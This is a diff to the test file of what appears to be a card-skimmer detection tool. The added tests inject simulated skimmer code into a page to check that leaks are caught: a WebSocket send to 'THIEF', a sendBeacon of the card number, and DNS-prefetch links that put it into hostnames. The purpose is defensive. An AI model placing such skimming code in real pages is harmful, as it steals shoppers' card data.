@@ -40,6 +40,14 @@ describe('what leaves with the page', () => {
     ])
   })
 
+  it('is found in a socket that was opened before and had sent much', async () => {
+    const watched = await watchPage(browser, {
+      skimmer: `const ws = new WebSocket('ws://THIEF/w'); ws.onopen = () => ws.send('x'.repeat(100000)); ${onLeaving('ws.send(pan)')}`,
+    })
+    expect(cards(watched)).toMatchObject([{ host: watched.thiefHost }])
+    expect(watched.canary.notSearched).toEqual([])
+  })
+
   it('is told once though both the browser and the guard saw it', async () => {
     const watched = await watchPage(browser, { skimmer: onCard(`navigator.sendBeacon('http://THIEF/c', pan)`) })
     expect(cards(watched)).toMatchObject([{ requestId: expect.any(String), where: 'body' }])
@@ -47,6 +55,15 @@ describe('what leaves with the page', () => {
 })
 
 describe('a name given early', () => {
+  it('to more hosts than are read makes the result partial', async () => {
+    const { capture } = await watchPage(browser, {
+      shop: onCard(
+        `for (let i = 0; i < 600; i++) { const k = document.createElement('link'); k.rel = 'dns-prefetch'; k.href = '//h' + i + '.shop.localhost'; document.head.append(k); k.remove() }`,
+      ),
+    })
+    expect(capture.outcome.issues.map(({ detail }) => detail)).toContain('The page gave more names to look up early than are read.')
+  })
+
   const link = (rel: string) => `const k = document.createElement('link'); k.rel = '${rel}'; k.href = '//x' + pan + '.thief.localhost/';`
   it.each([
     ['removed at once', `${link('preconnect')} document.head.append(k); setTimeout(() => k.remove(), 10)`],
